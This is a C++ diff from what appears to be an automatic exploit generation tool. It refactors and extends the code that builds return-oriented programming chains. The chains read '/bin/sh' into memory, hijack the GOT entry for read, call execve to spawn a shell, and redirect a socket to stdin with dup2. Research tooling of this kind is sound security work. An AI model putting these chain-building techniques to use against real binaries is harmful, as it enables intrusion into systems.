@@ -85,6 +85,23 @@ std::vector<RopPayload> Ret2syscall::getRopPayloadList() const {
     }
 }
 
+std::vector<uint64_t>
+Ret2syscall::getReadLengthList(const std::vector<RopPayload> &) const {
+    switch (m_strategy) {
+        case Strategy::STATIC_ROP:
+            // "/bin/sh" is read by sys_read(0, elf.bss(), 59).
+            return { 0, 59 };
+        case Strategy::GOT_HIJACKING_ROP:
+            // The LSB of read@got is read by read(0, elf.got['read'], 1),
+            // and "/bin/sh" is read by syscall<0>(0, elf.bss(), 59).
+            return { 0, 1, 59 };
+        case Strategy::LIBC_ROP:
+            [[fallthrough]];
+        default:
+            return {};
+    }
+}
+
 std::vector<RopPayload> Ret2syscall::getRopPayloadListUsingStaticRop() const {
     Exploit &exploit = g_crax->getExploit();
     const ELF &elf = exploit.getElf();
@@ -93,26 +110,26 @@ std::vector<RopPayload> Ret2syscall::getRopPayloadListUsingStaticRop() const {
     // reading "/bin/sh".ljust(59, b'\x00') to elf.bss()
     RopPayload part1 = {
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rax ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rdi ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rsi ; ret")),
         BaseOffsetExpr::create<BaseType::BSS>(elf),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rdx ; ret")),
-        ConstantExpr::create(59, Expr::Int64),
+        createInt64Constant(59),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "syscall")),
     };
 
     // sys_execve("/bin/sh", 0, 0)
     RopPayload part2 = {
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rax ; ret")),
-        ConstantExpr::create(59, Expr::Int64),
+        createInt64Constant(59),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rdi ; ret")),
         BaseOffsetExpr::create<BaseType::BSS>(elf),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rsi ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "pop rdx ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(elf, Exploit::toVarName(elf, "syscall")),
     };
 
@@ -120,7 +137,7 @@ std::vector<RopPayload> Ret2syscall::getRopPayloadListUsingStaticRop() const {
     RopPayload ret2;
 
     ret1.reserve(1 + part1.size() + part2.size());
-    ret1.push_back(ConstantExpr::create(0, Expr::Int64));  // RBP
+    ret1.push_back(createInt64Constant(0));  // RBP
     ret1.insert(ret1.end(), part1.begin(), part1.end());
     ret1.insert(ret1.end(), part2.begin(), part2.end());
     ret2 = { ByteVectorExpr::create(ljust("/bin/sh", 59, 0x00)) };
@@ -166,15 +183,15 @@ std::vector<RopPayload> Ret2syscall::getRopPayloadListUsingLibcRop() const {
 
     // sys_execve("/bin/sh", 0, 0)
     RopPayload payload = {
-        ConstantExpr::create(0, Expr::Int64),  // RBP
+        createInt64Constant(0),  // RBP
         BaseOffsetExpr::create<BaseType::VAR>(libc, Exploit::toVarName(libc, "pop rax ; ret")),
-        ConstantExpr::create(59, Expr::Int64),
+        createInt64Constant(59),
         BaseOffsetExpr::create<BaseType::VAR>(libc, Exploit::toVarName(libc, "pop rdi ; ret")),
         BaseOffsetExpr::create<BaseType::VAR>(*target, binshVarName),
         BaseOffsetExpr::create<BaseType::VAR>(libc, Exploit::toVarName(libc, "pop rsi ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(libc, Exploit::toVarName(libc, "pop rdx ; ret")),
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::VAR>(libc, Exploit::toVarName(libc, "syscall")),
     };
 
@@ -192,39 +209,39 @@ std::vector<RopPayload> Ret2syscall::getRopPayloadListUsingGotHijackingRop() con
     // read(0, elf.got['read'], 1), setting RAX to 1.
     RopPayload part1 = ret2csu->getRopPayloadList(
         m_syscallGadget,
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::GOT>(elf, "read"),
-        ConstantExpr::create(1, Expr::Int64))[0];
+        createInt64Constant(1))[0];
 
     // syscall<1>(1, 0, 0), setting RAX to 0.
     RopPayload part2 = ret2csu->getRopPayloadList(
         m_syscallGadget,
-        ConstantExpr::create(1, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64))[0];
+        createInt64Constant(1),
+        createInt64Constant(0),
+        createInt64Constant(0))[0];
 
     // syscall<0>(0, elf.bss(), 59),
     // reading "/bin/sh".ljust(59, b'\x00') to elf.bss()
     RopPayload part3 = ret2csu->getRopPayloadList(
         m_syscallGadget,
-        ConstantExpr::create(0, Expr::Int64),
+        createInt64Constant(0),
         BaseOffsetExpr::create<BaseType::BSS>(elf),
-        ConstantExpr::create(59, Expr::Int64))[0];
+        createInt64Constant(59))[0];
 
     // syscall<59>("/bin/sh", 0, 0),
     // i.e. sys_execve("/bin/sh", NULL, NULL)
     RopPayload part4 = ret2csu->getRopPayloadList(
         m_syscallGadget,
         BaseOffsetExpr::create<BaseType::BSS>(elf),
-        ConstantExpr::create(0, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64))[0];
+        createInt64Constant(0),
+        createInt64Constant(0))[0];
 
     RopPayload ret1;
     RopPayload ret2;
     RopPayload ret3;
 
     ret1.reserve(1 + part1.size() + part2.size() + part3.size() + part4.size());
-    ret1.push_back(ConstantExpr::create(0, Expr::Int64));  // RBP
+    ret1.push_back(createInt64Constant(0));  // RBP
 
     // If the input source is socket, then dup the target socket to stdin.
     if (proxy.getType() == Proxy::Type::SYM_SOCKET) {
@@ -289,9 +306,9 @@ RopPayload Ret2syscall::getDup2RopPayload(int socketFd) const {
 
     return ret2csu->getRopPayloadList(
         BaseOffsetExpr::create<BaseType::SYM>(elf, "dup2"),
-        ConstantExpr::create(socketFd, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64),
-        ConstantExpr::create(0, Expr::Int64))[0];
+        createInt64Constant(socketFd),
+        createInt64Constant(0),
+        createInt64Constant(0))[0];
 }
 
 RopPayload Ret2syscall::getPollRopPayload() const {
@@ -310,9 +327,9 @@ RopPayload Ret2syscall::getPollRopPayload() const {
                 log<WARN>() << "Polling socket via " << symbol << '\n';
                 return ret2csu->getRopPayloadList(
                     BaseOffsetExpr::create<BaseType::SYM>(elf, symbol),
-                    ConstantExpr::create(-1, Expr::Int64),
-                    ConstantExpr::create(0, Expr::Int64),
-                    ConstantExpr::create(0, Expr::Int64))[0];
+                    createInt64Constant(-1),
+                    createInt64Constant(0),
+                    createInt64Constant(0))[0];
             }
         }
     }